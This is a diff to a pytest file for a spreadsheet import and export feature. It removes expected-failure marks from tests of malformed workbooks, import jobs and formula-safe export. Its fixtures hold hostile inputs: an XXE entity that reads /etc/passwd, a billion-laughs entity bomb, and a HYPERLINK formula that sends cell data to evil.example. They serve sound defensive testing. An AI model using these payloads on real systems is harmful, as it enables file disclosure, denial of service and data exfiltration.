@@ -80,19 +80,12 @@ def _zip_of(**files: bytes) -> bytes:
 
 
 FILES = {
-    "truncated xlsx": pytest.param(
-        GOOD[: len(GOOD) // 2], marks=pytest.mark.xfail(reason=UNCAUGHT)
-    ),
+    "truncated xlsx": pytest.param(GOOD[: len(GOOD) // 2]),
     "a zip that is no workbook": _zip_of(**{"a.txt": b"x"}),
-    "sheet XML not well-formed": pytest.param(
-        _with_sheet(GOOD, lambda _: b"<worksheet><<<"), marks=pytest.mark.xfail(reason=UNCAUGHT)
-    ),
-    "billion laughs in the sheet": pytest.param(
-        _with_sheet(GOOD, _doctype(_LOL, "&l9;")), marks=pytest.mark.xfail(reason=UNCAUGHT)
-    ),
+    "sheet XML not well-formed": pytest.param(_with_sheet(GOOD, lambda _: b"<worksheet><<<")),
+    "billion laughs in the sheet": pytest.param(_with_sheet(GOOD, _doctype(_LOL, "&l9;"))),
     "external entity (XXE)": pytest.param(
         _with_sheet(GOOD, _doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
-        marks=pytest.mark.xfail(reason=UNCAUGHT),
     ),
     "CSV with NUL bytes": b"code,status\n000.00.06.H56-261125-0002,rec\x00eived\n",
     "CSV field past the csv module's limit": b"code,status\n" + b"A" * 200_000 + b",received\n",
@@ -131,9 +124,6 @@ def test_no_entity_ever_reads_a_local_file(catalog):
     assert secret not in repr([tuple(r) for r in rows])
 
 
-@pytest.mark.xfail(
-    reason="an import job whose parser raises stays 'running' (jobs.py catches only MotcuaError/OSError)"
-)
 def test_an_upload_of_a_broken_workbook_ends_as_a_failed_job(client, catalog, actors):
     boss = actors.h(actors.supervisor)
     r = client.post(
@@ -153,7 +143,6 @@ def test_an_upload_of_a_broken_workbook_ends_as_a_failed_job(client, catalog, ac
     assert job["status"] == "failed" and job["error"]["code"]
 
 
-@pytest.mark.xfail(reason=UNCAUGHT + "; the CLI ends in a traceback")
 def test_the_cli_refuses_a_broken_workbook_without_a_traceback(tmp_path):
     broken = tmp_path / "ho-so.xlsx"
     broken.write_bytes(GOOD[: len(GOOD) // 2])
@@ -166,7 +155,6 @@ def test_the_cli_refuses_a_broken_workbook_without_a_traceback(tmp_path):
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Xem")', "+1+1", "@SUM(A1:A9)", "-2+3"]
 
 
-@pytest.mark.xfail(reason="dossiers/tables.write_xlsx and write_csv export text as live formulas")
 def test_exported_names_stay_text_in_a_spreadsheet(client, catalog, actors):
     ctx = catalog
     for i, name in enumerate(FORMULAS):
